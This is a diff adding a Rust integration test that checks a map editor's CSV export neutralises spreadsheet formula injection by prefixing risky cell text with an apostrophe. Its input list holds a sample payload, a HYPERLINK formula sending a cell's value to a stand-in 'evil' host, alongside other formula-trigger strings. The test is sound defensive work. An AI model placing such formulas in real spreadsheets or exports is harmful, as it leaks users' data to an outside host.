@@ -367,3 +367,78 @@ async fn deleting_a_map_closes_its_editors_and_removes_it() {
     // The id can be used again, for a new map.
     assert_eq!(create(&server, r#"{"id":"doomed"}"#).await.status, 201);
 }
+
+/// A card's text that a spreadsheet would run as a formula arrives in the CSV export as text: the
+/// cell starts with `'`, which spreadsheets hide, and keeps every character.
+#[tokio::test]
+async fn formula_text_in_a_csv_export_is_inert() {
+    let server = TestServer::start().await;
+    let created = http(
+        "POST",
+        &server.http("/api/v1/maps"),
+        Some(r#"{"id": "sheet", "template": "ecommerce-purchase"}"#),
+    )
+    .await;
+    assert_eq!(created.status, 201, "{}", created.body);
+    let editor = server.connect("sheet").await;
+    let texts = [
+        "=HYPERLINK(\"http://evil/\"&A1,\"x\")",
+        "+SUM(1,2)",
+        "-2+3",
+        "@cmd",
+        "\tTAB",
+        "\rCR",
+        "plain text",
+    ];
+    let ids: Vec<String> = editor
+        .map()
+        .map
+        .cards
+        .iter()
+        .take(texts.len())
+        .map(|c| c.id.clone())
+        .collect();
+    editor.edit(|ed| {
+        for (id, text) in ids.iter().zip(texts) {
+            ed.set_card_text(id, text).unwrap();
+        }
+    });
+    let deadline = tokio::time::Instant::now() + WAIT;
+    let body = loop {
+        let csv = http("GET", &server.http("/api/v1/maps/sheet/export/csv"), None).await;
+        if csv.body.contains("plain text") {
+            break csv.body;
+        }
+        assert!(
+            tokio::time::Instant::now() < deadline,
+            "the edit never reached the export"
+        );
+        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+    };
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    let text_column = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == "text")
+        .expect("a text column");
+    let cells: std::collections::HashMap<String, String> = reader
+        .records()
+        .map(|r| {
+            let r = r.unwrap();
+            (r[0].to_owned(), r[text_column].to_owned())
+        })
+        .collect();
+    for (id, text) in ids.iter().zip(texts) {
+        let cell = &cells[id];
+        if text == "plain text" {
+            assert_eq!(cell, text);
+        } else {
+            assert_eq!(
+                cell,
+                &format!("'{text}"),
+                "{text:?} must not start a formula"
+            );
+        }
+    }
+}
